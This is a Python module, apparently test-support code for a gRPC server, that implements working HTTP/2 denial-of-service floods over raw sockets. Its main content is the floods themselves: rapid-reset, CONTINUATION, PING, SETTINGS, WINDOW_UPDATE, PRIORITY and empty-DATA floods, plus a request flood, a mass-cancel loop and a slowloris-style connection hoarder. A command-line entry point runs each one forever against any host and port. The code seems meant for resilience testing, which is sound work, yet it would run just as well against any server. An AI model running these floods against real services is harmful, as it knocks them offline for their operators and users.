"""An attacker's floods, over bare sockets: bytes made by hand, which may break any rule.

``python -m support.attacks KIND HOST PORT SOURCE …`` runs one in a process of its own until it is
ended. Nothing here is of the project.
"""

import asyncio
import contextlib
import itertools
import select
import socket
import struct
import sys
from collections.abc import Callable, Coroutine, Iterator, Mapping
from dataclasses import dataclass

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
HEAD_SIZE = 9

NONCE = "/network.ProverNetwork/GetNonce"

BLOCK = 500
"""Frames that are sent at once."""

UNDER_WAY = 100
"""Calls that a hasty client has open at once."""

_CANCELLED = struct.pack(">I", 8)
_WIDE = struct.pack(">I", 1 << 30)


@dataclass(frozen=True)
class Way:
    """From whom to whom.

    Attributes:
        host: of the server.
        port: of the server.
        source: the attacker's own address; all of 127.0.0.0/8 are this machine's.
    """

    host: str
    port: int
    source: str = "127.0.0.1"

    def connect(self, patience_s: float = 30.0) -> socket.socket:
        return socket.create_connection((self.host, self.port), patience_s, (self.source, 0))

    def is_kept_out(self) -> bool:
        """Tell whether nobody answers when it connects."""
        with contextlib.suppress(ConnectionError):
            try:
                self.connect(0.5).close()
            except TimeoutError:
                return True
        return False

    async def open(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(self.host, self.port, local_addr=(self.source, 0))


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """An HTTP/2 frame (RFC 9113 §4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def opening(settings: bytes = b"") -> bytes:
    """The beginning of an HTTP/2 connection."""
    return PREFACE + frame(SETTINGS, 0, 0, settings)


def hpack(fields: Mapping[str, str]) -> bytes:
    """Header fields as literals that are not indexed (RFC 7541 §6.2.2)."""
    strings = [_string(text) for pair in fields.items() for text in pair]
    pairs = zip(strings[::2], strings[1::2], strict=True)
    return b"".join(b"\0" + name + value for name, value in pairs)


def call_head(path: str, **more: str) -> bytes:
    """The head of a gRPC call."""
    fields = {":method": "POST", ":scheme": "http", ":authority": "x", ":path": path}
    return hpack(fields | {"content-type": "application/grpc", "te": "trailers"} | more)


def message(data: bytes) -> bytes:
    return struct.pack(">BI", 0, len(data)) + data


def _string(text: str) -> bytes:
    size = len(text)
    if size < 127:
        return bytes([size]) + text.encode()
    said, size = [127], size - 127
    while size > 127:
        said.append(size % 128 | 128)
        size //= 128
    return bytes([*said, size]) + text.encode()


def _resets() -> Iterator[bytes]:
    head = call_head(NONCE)
    for first in itertools.count(1, 2 * BLOCK):
        ids = range(first, first + 2 * BLOCK, 2)
        calls = (frame(HEADERS, END_HEADERS, n, head) + frame(RST, 0, n, _CANCELLED) for n in ids)
        yield b"".join(calls)


def _continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, call_head(NONCE))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1) * BLOCK)


def _beside_a_call(again: bytes) -> Callable[[], Iterator[bytes]]:
    def blocks() -> Iterator[bytes]:
        yield frame(HEADERS, END_HEADERS, 1, call_head(NONCE))
        yield from itertools.repeat(again * BLOCK)

    return blocks


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid-reset": _resets,
    "continuation": _continuations,
    "ping": _beside_a_call(frame(PING, 0, 0, bytes(8))),
    "settings": _beside_a_call(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))),
    "empty-data": _beside_a_call(frame(DATA, 0, 1)),
    "window-update": _beside_a_call(frame(WINDOW, 0, 0, struct.pack(">I", 1))),
    "priority": _beside_a_call(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1))),
}


def pour(line: socket.socket, name: str, most: int) -> int:
    """Send a flood until the server breaks it off or has taken `most` bytes; say how many.

    It is given up when nothing is taken for as long as the socket's timeout.
    """
    sent = 0
    with contextlib.suppress(ConnectionError, TimeoutError):
        for block in itertools.chain([opening()], FLOODS[name]()):
            if sent >= most or not _send(line, block):
                break
            sent += len(block)
    return sent


def _send(line: socket.socket, block: bytes) -> bool:
    """Send a block and read what the server says meanwhile; tell whether it may say more."""
    rest = memoryview(block)
    while rest:
        readable, writable, _ = select.select([line], [line], [], line.gettimeout())
        if not readable and not writable:
            raise TimeoutError
        if readable and not line.recv(1 << 16):
            return False
        if writable:
            rest = rest[line.send(rest) :]
    return True


async def flood(way: Way, name: str) -> None:
    """Send a flood on one connection after the other, for ever."""
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await way.open()
            reading = asyncio.ensure_future(_drink(reader))
            try:
                writer.write(opening())
                for block in FLOODS[name]():
                    writer.write(block)
                    await writer.drain()
                    await asyncio.sleep(0)
                    if reading.done():
                        break
            finally:
                reading.cancel()
                # What is not sent yet would keep a connection open that is closed only.
                writer.transport.abort()


async def hurry(way: Way, head: bytes, body: bytes) -> None:
    """Make calls as fast as they are answered, many at a time, for ever."""
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await way.open()
            ids, endings = itertools.count(1, 2), _Endings(reader)
            try:
                writer.write(opening(b"\0\4" + _WIDE) + frame(WINDOW, 0, 0, _WIDE))
                over = UNDER_WAY
                while True:
                    writer.write(b"".join(_call(next(ids), head, body) for _ in range(over)))
                    await writer.drain()
                    over = await endings.some()
            finally:
                writer.transport.abort()


async def regret(way: Way) -> None:
    """Make calls, take them all back when one is answered, and come again, for ever."""
    ids, head = range(1, 2 * UNDER_WAY, 2), call_head(NONCE)
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await way.open()
            try:
                calls = b"".join(_call(number, head, message(b"")) for number in ids)
                writer.write(opening() + calls)
                await _Endings(reader).some()
                writer.write(b"".join(frame(RST, 0, number, _CANCELLED) for number in ids))
                await writer.drain()
            finally:
                writer.transport.abort()


async def hoard(way: Way, many: int, beginning: bytes, drip: bytes) -> None:
    """Hold many connections that have begun to say something, for ever; reopen what is closed."""
    lines: list[socket.socket] = []
    while True:
        lines = [line for line in lines if _dripped(line, drip)]
        with contextlib.suppress(OSError):
            while len(lines) < many:
                line = way.connect(0.5)
                line.sendall(beginning)
                lines.append(line)
        await asyncio.sleep(0.5)


def _dripped(line: socket.socket, drip: bytes) -> bool:
    try:
        line.sendall(drip)
    except OSError:
        line.close()
        return False
    return True


async def _drink(reader: asyncio.StreamReader) -> None:
    with contextlib.suppress(OSError):
        while await reader.read(1 << 16):
            pass


def _call(stream: int, head: bytes, body: bytes) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, body)


class _Endings:
    """Counts the calls that are over, in what comes."""

    def __init__(self, reader: asyncio.StreamReader) -> None:
        self._reader = reader
        self._data = b""

    async def some(self) -> int:
        """Wait until calls are over; say how many."""
        over = 0
        while not over:
            self._data += await self._reader.read(1 << 16) or await self._reader.readexactly(1)
            over = sum(self._frames())
        return over

    def _frames(self) -> Iterator[bool]:
        while len(self._data) >= HEAD_SIZE:
            end = HEAD_SIZE + int.from_bytes(self._data[:3], "big")
            if len(self._data) < end:
                return
            kind, flags = self._data[3], self._data[4]
            self._data = self._data[end:]
            yield kind == RST or (kind in (DATA, HEADERS) and flags & END_STREAM != 0)


KINDS: dict[str, Callable[..., Coroutine[None, None, None]]] = {
    "flood": flood,
    "hurry": lambda way, path, body: hurry(way, call_head(path), message(bytes.fromhex(body))),
    "hoard": lambda way, many, beginning, drip: hoard(
        way, int(many), bytes.fromhex(beginning), bytes.fromhex(drip)
    ),
}


def main(kind: str, host: str, port: str, source: str, *more: str) -> None:
    asyncio.run(KINDS[kind](Way(host, int(port), source), *more))


if __name__ == "__main__":
    main(*sys.argv[1:])
